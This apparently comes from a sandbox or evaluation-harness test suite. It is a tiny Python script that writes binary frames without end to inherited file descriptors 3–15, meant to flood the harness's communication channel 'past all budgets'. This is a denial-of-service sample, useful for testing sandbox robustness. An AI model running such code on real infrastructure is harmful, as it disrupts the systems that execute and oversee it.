# A gigabyte written to the channel itself, past all budgets.
# %% honest
# %%
import os

while True:
    for descriptor in range(3, 16):
        try:
            os.write(descriptor, b"\x00\x00\x00\x00\x00\x01\x00\x00" * 8192)
        except OSError:
            pass
